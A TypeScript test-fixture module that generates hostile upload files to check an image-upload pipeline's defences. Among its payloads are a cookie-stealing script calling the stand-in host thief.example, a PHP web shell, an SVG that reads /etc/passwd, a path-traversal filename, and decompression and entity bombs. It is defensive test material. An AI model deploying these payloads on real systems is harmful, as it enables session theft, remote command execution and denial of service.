import { Buffer } from 'node:buffer';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A file that must never be served as anything but a picture. `mayBeAccepted`: its picture may be stored after re-encoding. */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** The media type it is sent as. */
  type: string;
  mayBeAccepted?: true;
}

const script = '<script>fetch("//thief.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}<rect width="9" height="9"/></svg>`;

const chunk = (type: string, data: Buffer): Buffer => {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, checksum]);
};

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of one colour: `depth` bits a channel, `colour` type, interlaced or not; rows are zeroes, so it is small whatever its size. */
const flatPng = (
  width: number,
  height: number,
  {
    depth = 8,
    colour = 0,
    interlaced = false,
    rows,
  }: { depth?: number; colour?: number; interlaced?: boolean; rows?: Buffer } = {},
): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([depth, colour, 0, 0, interlaced ? 1 : 0], 8);
  const channels = { 0: 1, 2: 3, 6: 4 }[colour] ?? 1;
  const bytes =
    rows ?? deflateSync(Buffer.alloc((Math.ceil((width * channels * depth) / 8) + 1) * height), { level: 9 });
  return Buffer.concat([pngSignature, chunk('IHDR', header), chunk('IDAT', bytes), chunk('IEND', Buffer.alloc(0))]);
};

const withChunk = (png: Buffer, type: string, data: Buffer): Buffer =>
  Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)]);

const samplePicture = sharp({ create: { width: 60, height: 40, channels: 3, background: '#2a7' } });

/** Marks the metadata, which must not survive an upload. */
export const canary = 'CANARY-GPS-28.6139N';

const withLocation = (format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> =>
  samplePicture
    .clone()
    .toFormat(format)
    .withExif({
      IFD0: { Copyright: canary, Orientation: '6', Make: canary },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '28/1 36/1 50/1', GPSAreaInformation: canary },
    })
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><note>${canary}</note></x:xmpmeta>`)
    .toBuffer();

/** Files of two formats at once: a payload before, after or inside a picture. */
const polyglots = (pictures: Record<'jpeg' | 'png' | 'webp', Buffer>): HostileFile[] => {
  const payloads: Record<string, Buffer> = {
    html: Buffer.from(`<!doctype html>${script}`),
    svg: Buffer.from(svg),
    php: Buffer.from('<?php system($_GET["c"]); ?>'),
    pdf: Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    zip: Buffer.from('504b0304140000000800', 'hex'),
    js: Buffer.from('=1;alert(document.domain);/*'),
    exe: Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
    elf: Buffer.from('7f454c4602010100', 'hex'),
  };
  return Object.entries(payloads).flatMap(([name, payload]) => {
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, payload.length + 2]), payload]);
    return [
      { name: `${name} before a jpeg`, bytes: Buffer.concat([payload, pictures.jpeg]), type: 'image/jpeg' },
      { name: `${name} alone`, bytes: payload, type: 'image/png' },
      { name: `${name} behind a gif`, bytes: Buffer.concat([Buffer.from('GIF89a'), payload]), type: 'image/png' },
      { name: `${name} behind a png signature`, bytes: Buffer.concat([pngSignature, payload]), type: 'image/png' },
      {
        name: `${name} behind a jpeg marker`,
        bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), payload]),
        type: 'image/jpeg',
      },
      {
        name: `${name} in a riff`,
        bytes: Buffer.concat([Buffer.from('RIFF\u0010\0\0\0WEBP', 'latin1'), payload]),
        type: 'image/webp',
      },
      {
        name: `${name} after a jpeg`,
        bytes: Buffer.concat([pictures.jpeg, payload]),
        type: 'image/jpeg',
        mayBeAccepted: true,
      },
      {
        name: `${name} after a png`,
        bytes: Buffer.concat([pictures.png, payload]),
        type: 'image/png',
        mayBeAccepted: true,
      },
      {
        name: `${name} after a webp`,
        bytes: Buffer.concat([pictures.webp, payload]),
        type: 'image/webp',
        mayBeAccepted: true,
      },
      {
        name: `${name} in a comment of a jpeg`,
        bytes: Buffer.concat([pictures.jpeg.subarray(0, 2), comment, pictures.jpeg.subarray(2)]),
        type: 'image/jpeg',
        mayBeAccepted: true,
      },
      {
        name: `${name} in the text of a png`,
        bytes: withChunk(pictures.png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), payload])),
        type: 'image/png',
        mayBeAccepted: true,
      },
    ] satisfies HostileFile[];
  });
};

const truncatedFiles = (pictures: Record<string, Buffer>): HostileFile[] =>
  Object.entries(pictures).flatMap(([format, bytes]) =>
    [1, 4, 12, 30, 0.3, 0.6, 0.9].map((part) => ({
      name: `${format} cut after ${part}`,
      bytes: bytes.subarray(0, part < 1 ? Math.floor(bytes.length * part) : part),
      type: `image/${format}`,
    })),
  );

/** Files that are small on the wire and large in memory. */
const bombs = (): HostileFile[] => [
  { name: '36 MP', bytes: flatPng(6_000, 6_000, { depth: 1 }), type: 'image/png' },
  { name: '400 MP', bytes: flatPng(20_000, 20_000, { depth: 1 }), type: 'image/png' },
  {
    name: 'the largest size there is',
    bytes: flatPng(2 ** 31 - 1, 2 ** 31 - 1, { rows: deflateSync(Buffer.alloc(99)) }),
    type: 'image/png',
  },
  { name: 'no size', bytes: flatPng(0, 0), type: 'image/png' },
  { name: 'one line of 30 million', bytes: flatPng(30_000_000, 1, { depth: 1 }), type: 'image/png' },
  {
    name: '24 MP in 16 bits and four channels, interlaced',
    bytes: flatPng(6_000, 4_000, { depth: 16, colour: 6, interlaced: true, rows: deflateSync(Buffer.alloc(1_000)) }),
    type: 'image/png',
  },
  {
    name: '24 MP with rows missing',
    bytes: flatPng(6_000, 4_000, { rows: deflateSync(Buffer.alloc(6_001)) }),
    type: 'image/png',
  },
  { name: '24 MP', bytes: flatPng(6_000, 4_000), type: 'image/png', mayBeAccepted: true },
  {
    name: 'text that unpacks to 60 MB',
    bytes: withChunk(
      flatPng(8, 8),
      'zTXt',
      Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(60_000_000), { level: 9 })]),
    ),
    type: 'image/png',
    mayBeAccepted: true,
  },
  {
    name: 'a colour profile that unpacks to 60 MB',
    bytes: withChunk(
      flatPng(8, 8),
      'iCCP',
      Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(60_000_000), { level: 9 })]),
    ),
    type: 'image/png',
    mayBeAccepted: true,
  },
  { name: 'a gzip of 60 MB', bytes: deflateSync(Buffer.alloc(60_000_000), { level: 9 }), type: 'image/png' },
];

const otherFormats = async (): Promise<HostileFile[]> => {
  const heading = (brand: string) =>
    Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from(`ftyp${brand}\0\0\0\0${brand}mif1`), Buffer.alloc(64)]);
  return [
    { name: 'gif', bytes: await samplePicture.clone().gif().toBuffer(), type: 'image/png' },
    { name: 'tiff', bytes: await samplePicture.clone().tiff().toBuffer(), type: 'image/jpeg' },
    { name: 'avif', bytes: await samplePicture.clone().avif({ effort: 0 }).toBuffer(), type: 'image/webp' },
    { name: 'heic', bytes: heading('heic'), type: 'image/jpeg' },
    { name: 'heix', bytes: heading('heix'), type: 'image/png' },
    { name: 'mp4', bytes: heading('isom'), type: 'image/webp' },
    { name: 'svg', bytes: Buffer.from(svg), type: 'image/png' },
    { name: 'svg, packed', bytes: deflateSync(svg), type: 'image/png' },
    {
      name: 'svg with an entity bomb',
      bytes: Buffer.from(`<!DOCTYPE s [<!ENTITY a "${'b'.repeat(999)}">]><svg>${'&a;'.repeat(999)}</svg>`),
      type: 'image/png',
    },
    {
      name: 'svg that reads a file',
      bytes: Buffer.from('<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="file:///etc/passwd"/></svg>'),
      type: 'image/png',
    },
    { name: 'svg with its own media type', bytes: Buffer.from(svg), type: 'image/svg+xml' },
    { name: 'html with its own media type', bytes: Buffer.from(script), type: 'text/html' },
    { name: 'gif with its own media type', bytes: await samplePicture.clone().gif().toBuffer(), type: 'image/gif' },
    { name: 'json', bytes: Buffer.from('{}'), type: 'application/json' },
    { name: 'anything', bytes: Buffer.from('anything'), type: 'application/octet-stream' },
    { name: 'a picture as text', bytes: await samplePicture.clone().png().toBuffer(), type: 'text/plain' },
    {
      name: 'a form',
      bytes: Buffer.from(
        '--x\r\nContent-Disposition: form-data; name="f"; filename="../../x.html"\r\n\r\n<b>\r\n--x--',
      ),
      type: 'multipart/form-data; boundary=x',
    },
    { name: 'ppm', bytes: Buffer.from('P6 1 1 255\n\0\0\0'), type: 'image/png' },
    { name: 'bmp', bytes: Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), type: 'image/png' },
    { name: 'a vips script', bytes: Buffer.from('#!/bin/sh\n'), type: 'image/png' },
    { name: 'nothing', bytes: Buffer.alloc(0), type: 'image/png' },
    { name: 'zeroes', bytes: Buffer.alloc(5_000), type: 'image/png' },
    { name: 'too large', bytes: Buffer.concat([pngSignature, Buffer.alloc(5_300_000)]), type: 'image/png' },
  ];
};

/** Hostile files of every kind, made as they are needed. */
export const hostileFiles = async (): Promise<HostileFile[]> => {
  const pictures = {
    jpeg: await samplePicture.clone().jpeg().toBuffer(),
    png: await samplePicture.clone().png().toBuffer(),
    webp: await samplePicture.clone().webp().toBuffer(),
  };
  const withLocations = await Promise.all(
    (['jpeg', 'png', 'webp'] as const).map(async (format): Promise<HostileFile> => ({
      name: `${format} with a place`,
      bytes: await withLocation(format),
      type: `image/${format}`,
      mayBeAccepted: true,
    })),
  );
  return [...polyglots(pictures), ...truncatedFiles(pictures), ...bombs(), ...(await otherFormats()), ...withLocations];
};
